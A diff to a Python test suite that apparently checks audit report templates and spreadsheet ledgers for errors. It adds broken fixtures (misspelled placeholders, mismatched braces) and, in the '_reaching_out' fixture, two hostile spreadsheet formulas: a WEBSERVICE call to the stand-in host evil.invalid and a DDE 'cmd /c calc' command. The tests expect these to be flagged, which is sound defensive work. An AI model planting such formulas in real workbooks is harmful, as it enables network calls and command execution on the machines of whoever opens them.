@@ -209,8 +209,54 @@ def _small_ledger(path: Path) -> Path:
     sheet.append(["虚构台账"])
     sheet.append(["序号", "底稿编号", "涉及金额（万元）", "问题标题"])
     sheet.append(["合计", "", "", "{{ title }}"])
-    sheet.append(["平均", "", "=AVERAGE(C3:C3)"])
+    sheet.append(["中位数", "", "=MEDIAN(C3:C3)"])
     workbook.create_sheet("书记专题会汇报表").append(["这里没有", "一个认得的", "列名"])
+    workbook.save(path)
+    return path
+
+
+def _dropped(path: Path) -> Path:
+    return ours(
+        "report.docx",
+        {"{{ signature }}": "虚构的落款", "{{ row.amount }}": "", "{{ problem.number }}{{ problem.title }}": "问题"},
+        path,
+    )
+
+
+def _left_out(path: Path) -> Path:
+    return ours(
+        "report.docx",
+        {"{{ signature }}": "{#p 不打印：署明、row.amuont #}", "{{ date }}": "｛# 不打印：date #｝"},
+        path,
+    )
+
+
+def _braces(path: Path) -> Path:
+    return small(
+        path,
+        "甲 {{ title }}}",
+        "乙 {{{ addressee }}",
+        "丙 {{{ signature }}}",
+        "丁 {% if draft %}}草稿{% endif %}",
+        "戊 {{% if draft %}草稿{% endif %}",
+        "己 {{ date }}｝",
+        "庚 { {{ date }} } {字} {% raw %}}{{% endraw %}",
+    )
+
+
+def _other_sheet(path: Path) -> Path:
+    workbook = load_workbook(LEDGER)
+    summary = workbook.create_sheet("汇总")
+    for row in range(1, 5):
+        summary[f"A{row}"] = f"=SUM(问题台账!Q4)*{row}"
+    workbook.save(path)
+    return path
+
+
+def _reaching_out(path: Path) -> Path:
+    workbook = load_workbook(LEDGER)
+    workbook["问题台账"]["AZ1"] = '=WEBSERVICE("http://evil.invalid")'
+    workbook["书记专题会汇报表"]["AZ2"] = "=cmd|'/c calc'!A1"
     workbook.save(path)
     return path
 
@@ -351,12 +397,61 @@ SICK = (
         ),
     ),
     Sick(
+        "dropped",
+        "report",
+        _dropped,
+        (
+            Seed("unprinted", "附件：", says="不打印：署名 "),
+            Seed("unprinted", "{%tr for row in problem_list.rows %}", row=2, column=1, says="`{{ row.amount }}`"),
+            Seed("unprinted", "{%p for problem in heading.problems %}", says="`{{ problem.number }}`"),
+            Seed("unprinted", "{%p for problem in heading.problems %}", says="`{{ problem.title }}`"),
+        ),
+    ),
+    Sick(
+        "left-out",
+        "report",
+        _left_out,
+        (
+            Seed("name", "署明", says="是否为 `署名`"),
+            Seed("name", "row.amuont", says="是否为 `row.amount`"),
+            Seed("fullwidth", "｛# 不打印", says="`{# 不打印：date #}`"),
+        ),
+    ),
+    Sick(
+        "braces",
+        "report",
+        _braces,
+        (
+            Seed("brackets", "甲 {{ title }}}", says="“}”应写成 `{{ title }}`"),
+            Seed("brackets", "乙 {{{ addressee }}", says="“{”应写成 `{{ addressee }}`"),
+            Seed("brackets", "丙 {{{ signature }}}", says="“{}”应写成 `{{ signature }}`"),
+            Seed("brackets", "丁 {% if draft %}}", says="“}”应写成 `{% if draft %}`"),
+            Seed("brackets", "戊 {{% if draft %}", says="“{”应写成 `{% if draft %}`"),
+            Seed("brackets", "己 {{ date }}｝", says="“｝”"),
+        ),
+    ),
+    Sick(
+        "other-sheet",
+        "ledger",
+        _other_sheet,
+        tuple(Seed("formula", cell=f"A{row}", part="汇总", says="引用了表“问题台账”") for row in range(1, 5)),
+    ),
+    Sick(
+        "reaching-out",
+        "ledger",
+        _reaching_out,
+        (
+            Seed("danger", cell="AZ1", part="问题台账", says="网络"),
+            Seed("danger", cell="AZ2", part="书记专题会汇报表", says="程序"),
+        ),
+    ),
+    Sick(
         "small-ledger",
         "ledger",
         _small_ledger,
         (
             Seed("model", cell="A3", part="问题台账", says="样板行"),
-            Seed("formula", cell="C4", part="问题台账", says="AVERAGE"),
+            Seed("formula", cell="C4", part="问题台账", says="MEDIAN"),
             Seed("tag", cell="D3", part="问题台账", says="{{ title }}"),
             Seed("header", part="书记专题会汇报表", says="表头"),
         ),
